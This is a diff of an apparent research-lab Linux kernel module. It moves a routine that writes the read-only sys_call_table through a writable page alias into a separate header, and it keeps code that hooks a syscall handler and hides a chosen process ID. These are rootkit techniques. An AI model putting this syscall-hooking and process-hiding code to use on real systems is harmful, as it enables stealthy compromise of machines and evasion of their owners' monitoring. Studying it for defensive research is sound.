@@ -62,6 +62,8 @@
 #include <asm/syscall.h>
 #include <asm/unistd.h>
 
+#include "syscall_alias.h"
+
 static int hide_pid;
 module_param(hide_pid, int, 0444);
 MODULE_PARM_DESC(hide_pid, "process to unlink from the task list (needs tasklist_lock)");
@@ -219,20 +221,6 @@ static long imee_attack_syscall(const struct pt_regs *regs)
 	return READ_ONCE(original_handler)(regs);
 }
 
-/* Write one entry of the read-only table through a writable alias. */
-static int write_entry(sys_call_ptr_t *entry, sys_call_ptr_t value)
-{
-	phys_addr_t phys = slow_virt_to_phys(entry);
-	struct page *page = pfn_to_page(PHYS_PFN(phys));
-	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
-
-	if (!alias)
-		return -ENOMEM;
-	WRITE_ONCE(*(sys_call_ptr_t *)(alias + offset_in_page(entry)), value);
-	vunmap(alias);
-	return 0;
-}
-
 static int hook_syscall(void)
 {
 	sys_call_ptr_t *entry;
@@ -248,7 +236,7 @@ static int hook_syscall(void)
 	}
 	entry = (sys_call_ptr_t *)syscall_table + syscall_nr;
 	original_handler = READ_ONCE(*entry);
-	err = write_entry(entry, imee_attack_syscall);
+	err = imee_lab_write_syscall_entry(entry, imee_attack_syscall);
 	if (err) {
 		pr_err("cannot map sys_call_table writable: %d\n", err);
 		return err;
@@ -263,7 +251,7 @@ static void unhook_syscall(void)
 {
 	if (!hooked_entry)
 		return;
-	if (write_entry(hooked_entry, original_handler))
+	if (imee_lab_write_syscall_entry(hooked_entry, original_handler))
 		pr_err("sys_call_table[%d] could not be restored\n", syscall_nr);
 	else
 		pr_info("sys_call_table[%d] restored to %ps\n", syscall_nr, original_handler);
